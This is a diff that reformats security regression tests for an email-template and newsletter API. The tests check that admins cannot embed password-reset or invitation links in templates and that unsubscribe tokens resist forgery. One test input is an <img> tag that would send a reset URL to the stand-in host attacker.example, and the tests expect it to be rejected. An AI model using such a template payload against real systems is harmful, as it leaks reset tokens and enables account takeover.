@@ -59,13 +59,17 @@ function tokenIn(mail: ReceivedMail, path: string): string {
 /** A new workspace whose owner is signed in, and an admin of it who joined by invitation. */
 async function workspaceWithAdmin(label: string): Promise<{ ownerEmail: string; owner: AuthRpc.RegisterReply; admin: AuthRpc.Session }> {
   const ownerEmail = uniqueEmail(`${label}-owner`);
-  const registered = await call('POST', '/auth/register', { body: { email: ownerEmail, password: PASSWORD, name: 'Owner', workspaceName: `${label} workspace` } });
+  const registered = await call('POST', '/auth/register', {
+    body: { email: ownerEmail, password: PASSWORD, name: 'Owner', workspaceName: `${label} workspace` },
+  });
   expect(registered.status).toBe(201);
   const owner = registered.body as AuthRpc.RegisterReply;
   const adminEmail = uniqueEmail(`${label}-admin`);
   expect((await call('POST', '/invitations', { token: owner.accessToken, body: { email: adminEmail, role: 'admin' } })).status).toBe(201);
   const [invitation] = await mailbox.waitForMessages(1, { to: adminEmail });
-  const accepted = await call('POST', '/invitations/accept', { body: { token: tokenIn(invitation!, '/invitations/accept'), name: 'Admin', password: PASSWORD } });
+  const accepted = await call('POST', '/invitations/accept', {
+    body: { token: tokenIn(invitation!, '/invitations/accept'), name: 'Admin', password: PASSWORD },
+  });
   expect(accepted.status).toBe(201);
   return { ownerEmail, owner, admin: accepted.body as AuthRpc.Session };
 }
@@ -107,13 +111,28 @@ describe('finding 2: an admin cannot read a security email’s one-time link (em
     expectError(await call('PATCH', '/email-templates/password_reset', { token: admin.accessToken, body: { subject: 'Reset {{resetUrl}}' } }), 422, 'subject');
     // …or in an attribute that loads remote content, or through lookup; the other security templates alike.
     expectError(
-      await call('PATCH', '/email-templates/password_reset', { token: admin.accessToken, body: { body: '<img src="https://attacker.example/c?u={{resetUrl}}">' } }),
+      await call('PATCH', '/email-templates/password_reset', {
+        token: admin.accessToken,
+        body: { body: '<img src="https://attacker.example/c?u={{resetUrl}}">' },
+      }),
       422,
       'body',
     );
-    expectError(await call('PATCH', '/email-templates/password_reset', { token: admin.accessToken, body: { body: '<p>{{lookup this "resetUrl"}}</p>' } }), 422, 'body');
-    expectError(await call('POST', '/email-templates', { token: admin.accessToken, body: { key: 'email_verification', subject: '{{verifyUrl}}', body: '<p>Hi</p>' } }), 422, 'subject');
-    expectError(await call('PATCH', '/email-templates/invitation', { token: admin.accessToken, body: { body: '<a href="{{acceptUrl}}">Join</a>' } }), 422, 'body');
+    expectError(
+      await call('PATCH', '/email-templates/password_reset', { token: admin.accessToken, body: { body: '<p>{{lookup this "resetUrl"}}</p>' } }),
+      422,
+      'body',
+    );
+    expectError(
+      await call('POST', '/email-templates', { token: admin.accessToken, body: { key: 'email_verification', subject: '{{verifyUrl}}', body: '<p>Hi</p>' } }),
+      422,
+      'subject',
+    );
+    expectError(
+      await call('PATCH', '/email-templates/invitation', { token: admin.accessToken, body: { body: '<a href="{{acceptUrl}}">Join</a>' } }),
+      422,
+      'body',
+    );
     const variables = (await call('GET', '/email-templates/password_reset', { token: admin.accessToken })).body as NotificationsRpc.EmailTemplate;
     expect(variables.variables).not.toContain('resetUrl');
 
@@ -139,13 +158,18 @@ describe('finding 2: an admin cannot read a security email’s one-time link (em
     expect(stored).toEqual([{ subject: null, html: null, text: null }]);
 
     mailbox.refuseRecipient(ownerEmail, false);
-    const resetMail = await eventually(async () => mailbox.messages().find((mail) => mail.to.includes(ownerEmail) && mail.text.includes('/reset-password?')), 30_000);
+    const resetMail = await eventually(
+      async () => mailbox.messages().find((mail) => mail.to.includes(ownerEmail) && mail.text.includes('/reset-password?')),
+      30_000,
+    );
     const token = tokenIn(resetMail, '/reset-password');
     expect(resetMail.subject).toBe('Acme: your password');
     expect(resetMail.html).toContain('Acme here.');
     // The link sits in the fixed block, in an <a> of its own, and nowhere else.
     const links = [...resetMail.html.matchAll(/(?:src|href)="([^"]*)"/g)].map((match) => match[1]!);
-    expect(links.filter((link) => link.includes(encodeURIComponent(token)) || link.includes(token))).toEqual([`${gateway.url}/reset-password?token=${encodeURIComponent(token)}`]);
+    expect(links.filter((link) => link.includes(encodeURIComponent(token)) || link.includes(token))).toEqual([
+      `${gateway.url}/reset-password?token=${encodeURIComponent(token)}`,
+    ]);
     expect(resetMail.html.match(/reset-password\?token=/g)).toHaveLength(1);
 
     // Sent: the log and the storage still hold no content, and the admin has nothing to reset with.
@@ -168,7 +192,9 @@ describe('finding 2: an admin cannot read a security email’s one-time link (em
 
 describe('finding 8: a GET of the unsubscribe link changes nothing; the confirmation page’s POST (RFC 8058 one-click) opts out', () => {
   it('keeps the contact subscribed through GETs, opts out on the one-click POST, and refuses forged tokens', async () => {
-    const registered = await call('POST', '/auth/register', { body: { email: uniqueEmail('sender'), password: PASSWORD, name: 'Sender', workspaceName: 'Newsletters' } });
+    const registered = await call('POST', '/auth/register', {
+      body: { email: uniqueEmail('sender'), password: PASSWORD, name: 'Sender', workspaceName: 'Newsletters' },
+    });
     const token = (registered.body as AuthRpc.RegisterReply).accessToken;
     const address = uniqueEmail('reader');
     const contact = await call('POST', '/contacts', { token, body: { firstName: 'Reader', email: address } });
@@ -176,7 +202,10 @@ describe('finding 8: a GET of the unsubscribe link changes nothing; the confirma
     const contactId = (contact.body as { id: string }).id;
 
     const sendCampaign = async (name: string): Promise<string> => {
-      const created = await call('POST', '/campaigns', { token, body: { name, channel: 'email', subject: 'News', body: '<p>News for {{firstName}}</p>', audience: { contactIds: [contactId] } } });
+      const created = await call('POST', '/campaigns', {
+        token,
+        body: { name, channel: 'email', subject: 'News', body: '<p>News for {{firstName}}</p>', audience: { contactIds: [contactId] } },
+      });
       expect(created.status).toBe(201);
       const id = (created.body as { id: string }).id;
       expect((await call('POST', `/campaigns/${id}/send`, { token })).status).toBe(200);
@@ -207,7 +236,11 @@ describe('finding 8: a GET of the unsubscribe link changes nothing; the confirma
     // A forged or altered token: 404, nothing changes, whichever method.
     const forged = link.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A'));
     expect((await fetch(forged)).status).toBe(404);
-    const forgedPost = await fetch(forged, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'List-Unsubscribe=One-Click' });
+    const forgedPost = await fetch(forged, {
+      method: 'POST',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      body: 'List-Unsubscribe=One-Click',
+    });
     expect(forgedPost.status).toBe(404);
     expect(((await forgedPost.json()) as { error: unknown }).error).toMatchObject({ status: 404 });
     expect((await call('GET', `/campaigns/${campaignId}`, { token })).body.counts.unsubscribed).toBe(0);
@@ -221,7 +254,11 @@ describe('finding 8: a GET of the unsubscribe link changes nothing; the confirma
     expect((await call('GET', `/campaigns/${campaignId}`, { token })).body.counts.unsubscribed).toBe(0);
 
     // The one-click POST (what mail clients send) opts out.
-    const oneClick = await fetch(link, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'List-Unsubscribe=One-Click' });
+    const oneClick = await fetch(link, {
+      method: 'POST',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      body: 'List-Unsubscribe=One-Click',
+    });
     expect(oneClick.status).toBe(200);
     expect(await oneClick.json()).toEqual({ channel: 'email', alreadyUnsubscribed: false });
     expect((await call('GET', `/campaigns/${campaignId}`, { token })).body.counts.unsubscribed).toBe(1);
